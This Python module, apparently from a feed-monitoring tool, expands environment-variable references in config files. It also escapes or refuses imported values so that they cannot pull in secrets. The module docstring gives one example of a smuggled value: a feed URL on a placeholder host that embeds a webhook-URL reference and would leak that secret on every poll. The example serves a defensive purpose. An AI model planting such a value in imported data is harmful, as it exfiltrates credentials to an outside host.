"""``${VAR}`` and ``${VAR:-default}`` expansion, so secrets live in the environment, not in the file.

Expansion runs over every string of the file, so a value Tripwire writes there from a stranger (an OPML outline, a
discovered feed's title) would be expanded too: ``https://x.example/rss?s=${SLACK_WEBHOOK_URL:-}`` sends the Slack URL
to that host on every poll. Anything that writes such values goes through :func:`literal`, which refuses a reference
and escapes every other ``$`` as ``$$``, so the loader gives back exactly the text that was written.
"""

from __future__ import annotations

import re
from collections.abc import Mapping

_REFERENCE = re.compile(r"\$\{([A-Za-z_][A-Za-z0-9_]*)(?::-([^}]*))?\}|\$\$")


# What starts a reference; the only way into the environment from a config value.
REFERENCE_START = "${"


class ImportedReference(ValueError):
    """A value from outside (an import) carries ``${``, which the config loader would expand from the environment."""


class MissingVariable(ValueError):
    """A ``${VAR}`` with no default names a variable that is not set."""

    def __init__(self, name: str, path: tuple[str | int, ...] = ()) -> None:
        super().__init__(name)
        self.name = name
        self.path = path


def expand_string(text: str, environ: Mapping[str, str]) -> str:
    """Replace every ``${VAR}`` / ``${VAR:-default}`` in ``text``; ``$$`` stands for a literal ``$``."""

    def substitute(match: re.Match[str]) -> str:
        if match.group(0) == "$$":
            return "$"
        name, default = match.group(1), match.group(2)
        value = environ.get(name)
        if value is None or (value == "" and default is not None):
            if default is None:
                raise MissingVariable(name)
            return default
        return value

    return _REFERENCE.sub(substitute, text)


def expand_tree(node: object, environ: Mapping[str, str], path: tuple[str | int, ...] = ()) -> object:
    """Expand references in every string of a parsed YAML tree; errors carry the field path."""
    if isinstance(node, str):
        try:
            return expand_string(node, environ)
        except MissingVariable as exc:
            raise MissingVariable(exc.name, path) from None
    if isinstance(node, dict):
        return {key: expand_tree(value, environ, (*path, str(key))) for key, value in node.items()}
    if isinstance(node, list):
        return [expand_tree(value, environ, (*path, index)) for index, value in enumerate(node)]
    return node


def literal(text: str) -> str:
    """``text`` as a config value the loader reads back unchanged and never expands.

    A ``${`` in it is refused (ImportedReference), not escaped: imported text that names an environment variable is an
    attempt to read one (or a mistake), and a user should see it rather than find ``$${...}`` in the file. Every other
    ``$`` is doubled, since ``$$`` is how the file writes a literal ``$``.
    """
    if REFERENCE_START in text:
        raise ImportedReference(
            f"{text[:120]!r} contains ${{, which the config loader would replace with an environment variable's "
            "value (a secret, such as a webhook URL or password)"
        )
    return text.replace("$", "$$")
